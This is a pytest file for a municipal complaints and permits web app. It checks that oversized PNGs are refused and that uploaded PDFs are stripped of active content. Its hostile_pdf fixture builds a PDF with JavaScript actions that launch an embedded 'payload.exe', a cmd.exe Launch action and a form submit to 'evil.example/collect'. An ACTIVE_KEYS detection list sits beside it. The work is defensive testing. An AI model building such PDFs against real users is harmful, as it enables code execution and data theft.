"""Hostile files (issue 11): photos whose decoding would take a worker's memory, and PDFs that
carry active content. Each is refused in words, or stored made harmless, and the form keeps
what the citizen typed."""

from __future__ import annotations

import io
import re
import threading

import pikepdf
import pytest
import requests
import sqlalchemy as sa
from PIL import Image
from werkzeug.datastructures import FileStorage

from app.complaints.models import Complaint, ComplaintPhoto
from app.core import storage
from app.extensions import db
from app.models import User
from app.permits import services as permit_services
from app.permits.models import PermitCase, PermitType
from app.uploads import UploadError, photo_decoder, store_upload
from tests.complaints.helpers import CHEFCHAOUEN_CODE, choose_commune, filing_form
from tests.inspections.helpers import permit_in_site_visit, photo, report_form, reports
from tests.inspections.helpers import send as send_report
from tests.permits.helpers import PNG_RGBA, huge_png, photo_bytes

TOO_LARGE_TO_PROCESS = "This image is too large to process (7000 × 7000 pixels)."
BUSY = "Many photos are being processed right now. Send the form again in a minute: what you wrote is kept."
DESCRIPTION = "A deep pothole in front of the school."
TOKEN = re.compile(r'name="csrf_token" (?:type="hidden" )?value="([^"]+)"')


@pytest.fixture(scope="module")
def hostile_png() -> bytes:
    """7000 × 7000 pixels, 16-bit RGBA: 49 megapixels (under the 50-megapixel guard), 392 MB to decode."""
    return huge_png(7000, 7000, bit_depth=16, colour_type=PNG_RGBA)


@pytest.fixture
def folder(app, monkeypatch, tmp_path):
    target = tmp_path / "uploads"
    monkeypatch.setitem(app.config, "UPLOAD_FOLDER", str(target))
    return target


@pytest.fixture
def guest(client, demo, folder):
    choose_commune(client, CHEFCHAOUEN_CODE)
    return client


def store(app, data: bytes, name: str, accepted=("pdf", "image"), language: str = "en"):
    """store_upload in a request: (the stored file's bytes, its StoredFile), or the refusal's words."""
    with app.test_request_context(headers={"Accept-Language": language}):
        try:
            stored = store_upload(FileStorage(io.BytesIO(data), filename=name), list(accepted))
        except UploadError as error:
            return str(error.message)
        db.session.commit()  # a stored file is published with the transaction that records it
        return read(stored.storage_name), stored


def read(storage_name: str) -> bytes:
    with storage.store().open(storage_name) as stored:
        return stored.read()


def stored_files(folder) -> list:
    return sorted(folder.iterdir()) if folder.exists() else []


def complaints(app) -> list[tuple[str, int]]:
    with app.app_context():
        rows = db.session.execute(
            sa.select(Complaint.description, sa.func.count(ComplaintPhoto.id))
            .outerjoin(ComplaintPhoto)
            .group_by(Complaint.id)
        )
        return [tuple(row) for row in rows]


def permit_draft(app) -> int:
    """A draft building permit of the demo citizen, waiting for its documents."""
    with app.app_context():
        citizen = db.session.scalar(sa.select(User).where(User.email == "citizen@demo.ma"))
        permit_type = db.session.scalar(sa.select(PermitType).where(PermitType.code == "building_small"))
        case_id = permit_services.start(citizen, permit_type, citizen.commune).id
        db.session.remove()
    return case_id


def token(http: requests.Session, url: str) -> str:
    return TOKEN.search(http.get(url).text).group(1)


def post_complaint(guest, app, photos, language: str = "en"):
    form = filing_form(app, contact_name="Amina Tazi", photos=[(io.BytesIO(data), name) for data, name in photos])
    return guest.post(
        "/complaints/new",
        form,
        form_url="/complaints/new",
        content_type="multipart/form-data",
        headers={"Accept-Language": language},
    )


# --- photos: the memory their decoding takes ----------------------------------------------------


def test_the_16_bit_png_that_took_400_mb_is_refused_from_its_header(app, folder, hostile_png):
    assert len(hostile_png) < 2_000_000  # small to send: the danger is in memory
    result = store(app, hostile_png, "plan.png")
    assert isinstance(result, str) and result.startswith(TOO_LARGE_TO_PROCESS), result
    assert "JPEG" in result  # it says what to send instead
    assert stored_files(folder) == []


def test_the_guard_counts_bytes_per_pixel_not_only_pixels(app, folder):
    """The same 7000 × 7000 pixels: 49 MB to decode in 8-bit grey (stored, shrunk), 392 MB in
    16-bit RGBA (refused); and 4000 × 4000 (16 megapixels) passes in grey, not in 8-bit RGBA."""
    data, stored = store(app, huge_png(7000, 7000, bit_depth=8), "grey.png", ["image"])
    with Image.open(io.BytesIO(data)) as image:
        assert image.size == (2000, 2000) and stored.content_type == "image/jpeg"
    assert store(app, huge_png(4000, 4000), "grey.png", ["image"])[1].content_type == "image/jpeg"
    refused = store(app, huge_png(4000, 4000, bit_depth=8, colour_type=PNG_RGBA), "rgba.png", ["image"])
    assert refused == (
        "This image is too large to process (4000 × 4000 pixels). Send it as a JPEG photo, or at a smaller size."
    )
    assert len(stored_files(folder)) == 2


def test_a_big_sideways_jpeg_is_shrunk_first_and_still_stored_upright(app, folder):
    """Decoded at a quarter of its size (Image.draft), then turned: the EXIF orientation survives the shrinking."""
    exif = Image.Exif()
    exif[0x0112] = 6  # lying down: viewers turn it 90° clockwise
    out = io.BytesIO()
    Image.new("RGB", (8000, 2000), (90, 140, 200)).save(out, "JPEG", exif=exif)
    data, _stored = store(app, out.getvalue(), "door.jpg", ["image"])
    with Image.open(io.BytesIO(data)) as image:
        assert image.size == (500, 2000)
        assert dict(image.getexif()) == {}


def test_the_hostile_png_on_the_complaint_form_is_refused_in_words_and_the_text_is_kept(guest, app, hostile_png):
    response = post_complaint(guest, app, [(photo_bytes(), "street.jpg"), (hostile_png, "pothole.png")])
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "pothole.png: " + TOO_LARGE_TO_PROCESS in page
    assert DESCRIPTION in page and 'value="Amina Tazi"' in page
    assert complaints(app) == []


def test_the_refusal_is_in_arabic_for_an_arabic_page(guest, app, hostile_png):
    page = post_complaint(guest, app, [(hostile_png, "pothole.png")], language="ar").get_data(as_text=True)
    assert "7000 × 7000" in page and "JPEG" in page
    assert "This image is too large" not in page
    assert DESCRIPTION in page


def test_the_hostile_png_in_an_inspection_report_is_refused_in_words_and_the_draft_kept(app, client, demo, hostile_png):
    _, inspection_id = permit_in_site_visit(app)
    client.signin("agent@demo.ma")
    form = report_form(photos=[photo("site.jpg"), (io.BytesIO(hostile_png), "facade.png")])
    response = send_report(client, inspection_id, form)
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "facade.png: " + TOO_LARGE_TO_PROCESS in page
    assert 'value="report-key-1"' in page and "Les travaux suivent les plans." in page
    with app.app_context():
        assert reports() == []


def test_the_hostile_png_as_a_permit_document_is_refused_in_words(client, app, demo, folder, hostile_png):
    case_id = permit_draft(app)
    client.signin("citizen@demo.ma")
    url = f"/permits/{case_id}/documents"
    response = client.post(url, {"item": "request", "file": (io.BytesIO(hostile_png), "plan.png")}, form_url=url)
    assert TOO_LARGE_TO_PROCESS in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.get(PermitCase, case_id).documents == []
    assert stored_files(folder) == []


def test_a_photo_broken_past_its_header_is_refused_in_words_not_with_an_error_page(guest, app, folder):
    """Its header passes the form's check; its pixels cannot be decoded. The first photo, already
    stored when the second fails, is not left behind."""
    broken = photo_bytes((1200, 900))
    broken = broken[: len(broken) // 2]
    response = post_complaint(guest, app, [(photo_bytes(), "street.jpg"), (broken, "pothole.jpg")])
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "This photo could not be read. Take it again or choose another file." in page
    assert DESCRIPTION in page
    assert complaints(app) == []
    assert stored_files(folder) == []


def test_when_the_photo_decoder_is_busy_past_the_wait_the_citizen_is_told_to_retry(guest, app, folder, monkeypatch):
    monkeypatch.setitem(app.config, "IMAGE_DECODE_WAIT", 0.2)
    other_request_done = threading.Event()
    photo_decoder().submit(other_request_done.wait, 10)  # another request's photo, being decoded
    try:
        response = post_complaint(guest, app, [(photo_bytes(), "pothole.jpg")])
    finally:
        other_request_done.set()
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert BUSY in page
    assert DESCRIPTION in page and 'value="Amina Tazi"' in page
    assert complaints(app) == [] and stored_files(folder) == []
    # Sent again once the decoder is free, it is filed with its photo.
    assert post_complaint(guest, app, [(photo_bytes(), "pothole.jpg")]).status_code == 303
    assert complaints(app) == [(DESCRIPTION, 1)]


def test_complaints_sent_at_once_wait_their_turn_and_are_all_filed_with_their_photos(app, demo, live_server):
    """Three citizens send three photos each at the same moment to the running server: one photo
    is decoded at a time, the others wait their turn; nobody is told to come back."""
    photos = [("photos", (f"p{i}.png", photo_bytes((3000, 2000), fmt="PNG"), "image/png")) for i in range(3)]
    form = filing_form(app, seen_duplicates="1")  # three reports of one place: each is filed

    def citizen(number: int):
        http = requests.Session()
        http.headers["Accept-Language"] = "en"
        choose = {"code": CHEFCHAOUEN_CODE, "csrf_token": token(http, live_server + "/communes/")}
        http.post(live_server + "/communes/choose", data=choose)
        data = {
            **form,
            "idempotency_key": f"at-once-{number}",
            "csrf_token": token(http, live_server + "/complaints/new"),
        }
        return lambda: http.post(live_server + "/complaints/new", data=data, files=photos, allow_redirects=False)

    barrier = threading.Barrier(3)
    answers = []

    def send(post):
        barrier.wait()
        answers.append(post().status_code)

    threads = [threading.Thread(target=send, args=(citizen(n),)) for n in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    assert answers == [303, 303, 303]
    assert complaints(app) == [(DESCRIPTION, 3)] * 3


# --- PDFs: active content -------------------------------------------------------------------------

ACTIVE_KEYS = {"/OpenAction", "/AA", "/JS", "/JavaScript", "/EmbeddedFiles", "/EF", "/XFA"}
SCRIPT = "app.alert('owned'); this.exportDataObject({cName: 'payload.exe', nLaunch: 2});"
PAYLOAD = b"MZ\x90\x00 the payload"


def javascript(code: str = SCRIPT) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def hostile_pdf(pages: int = 3) -> bytes:
    """Every place a PDF keeps active content: the document's opening, its named scripts, a page's
    and a form field's additional actions, a link that launches a program, an action chain, an
    XFA form, an attached file and an annotation carrying one. One honest web link too."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    pdf.Root.OpenAction = javascript()
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(javascript())]))
    )
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, PAYLOAD, mime_type="application/octet-stream")
    first, second, third = pdf.pages[0], pdf.pages[1], pdf.pages[2]
    first.AA = pikepdf.Dictionary(O=javascript(), C=javascript())
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"), Win=pikepdf.Dictionary(F="cmd.exe"))
    chain = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([third.obj, pikepdf.Name.Fit]), Next=javascript())
    widget = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Widget,
        FT=pikepdf.Name.Btn,
        T=pikepdf.String("send"),
        Rect=[0, 0, 50, 50],
        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/collect")),
        AA=pikepdf.Dictionary(K=javascript()),
    )
    web_link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 100, 200, 120],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.chefchaouen.ma/")),
    )
    script_link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 130, 200, 150],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:app.alert(1)")),
    )
    second.Annots = pdf.make_indirect(
        pikepdf.Array(
            [
                pdf.make_indirect(widget),
                pdf.make_indirect(
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 60, 50, 90], A=launch
                    )
                ),
                pdf.make_indirect(
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[60, 60, 90, 90], A=chain
                    )
                ),
                pdf.make_indirect(web_link),
                pdf.make_indirect(script_link),
            ]
        )
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[second.Annots[0]], XFA=pikepdf.Stream(pdf, b"<xdp:xdp/>"))
    attached = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.FileAttachment,
        Rect=[0, 0, 20, 20],
        FS=pdf.attachments["payload.exe"].obj,
    )
    third.Annots = pikepdf.Array([pdf.make_indirect(attached)])
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def direct(value) -> bool:
    """A value held inside its object (an indirect one is in pdf.objects already)."""
    return isinstance(value, pikepdf.Object) and not value.is_indirect


def active_content(pdf: pikepdf.Pdf) -> list[str]:
    """Every piece of active content left in the file, wherever it is (each object, each nested value)."""
    found, stack = [], [pdf.trailer, *pdf.objects]
    while stack:
        obj = stack.pop()
        if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            found += [key for key in obj if key in ACTIVE_KEYS]
            kind, subtype = str(obj.get("/S", "")), str(obj.get("/Subtype", ""))
            if kind in ("/JavaScript", "/Launch", "/SubmitForm") or subtype == "/FileAttachment":
                found.append(kind or subtype)
            if kind == "/URI" and not str(obj.URI).startswith("https://"):
                found.append(str(obj.URI))
            stack += [obj[key] for key in obj if direct(obj[key])]
        elif isinstance(obj, pikepdf.Array):
            stack += [item for item in obj if direct(item)]
        elif isinstance(obj, pikepdf.String) and "app.alert" in str(obj):
            found.append(str(obj))
    return found


def test_the_hostile_pdf_really_carries_its_active_content():
    with pikepdf.open(io.BytesIO(hostile_pdf())) as pdf:
        found = active_content(pdf)
        assert {"/OpenAction", "/AA", "/JavaScript", "/EmbeddedFiles", "/EF", "/XFA", "/Launch", "/SubmitForm"} <= set(
            found
        )
        assert "/FileAttachment" in found and "javascript:app.alert(1)" in found


def test_a_pdf_with_javascript_actions_and_attachments_is_stored_without_them_and_with_its_pages(app, folder):
    data, stored = store(app, hostile_pdf(pages=3), "plans.pdf")
    assert stored.content_type == "application/pdf" and stored.size == len(data)
    assert PAYLOAD not in data and b"cmd.exe" not in data and b"evil.example" not in data
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) == 3
        assert active_content(pdf) == []
        assert len(pdf.attachments) == 0
        # What does no harm stays: the web link, and the link to page 3 (only its script is gone).
        links = [annot.A for annot in pdf.pages[1].Annots if "/A" in annot]
        assert [str(link.S) for link in links] == ["/GoTo", "/URI"]
        assert str(links[1].URI) == "https://www.chefchaouen.ma/"


def test_a_hostile_pdf_sent_with_a_permit_is_stored_clean(client, app, demo, folder):
    case_id = permit_draft(app)
    client.signin("citizen@demo.ma")
    url = f"/permits/{case_id}/documents"
    response = client.post(url, {"item": "request", "file": (io.BytesIO(hostile_pdf(4)), "request.pdf")}, form_url=url)
    assert response.status_code in (200, 303)
    with app.app_context():
        (document,) = db.session.get(PermitCase, case_id).documents
        with pikepdf.open(io.BytesIO(read(document.storage_name))) as pdf:
            assert len(pdf.pages) == 4 and active_content(pdf) == []


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.4\nthis is not a PDF at all, only its first and last words\n%%EOF\n",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n",
    ],
    ids=["garbage-between-signature-and-eof", "no-pages"],
)
def test_a_broken_pdf_is_refused_in_words(app, folder, data):
    assert store(app, data, "plans.pdf") == "This PDF is damaged or incomplete. Save it again and send it once more."
    assert stored_files(folder) == []


def test_a_pdf_locked_with_a_password_is_refused_in_words(app, folder):
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    assert store(app, out.getvalue(), "plans.pdf") == (
        "This PDF is protected by a password. Save it without the password and send it again."
    )
    assert stored_files(folder) == []
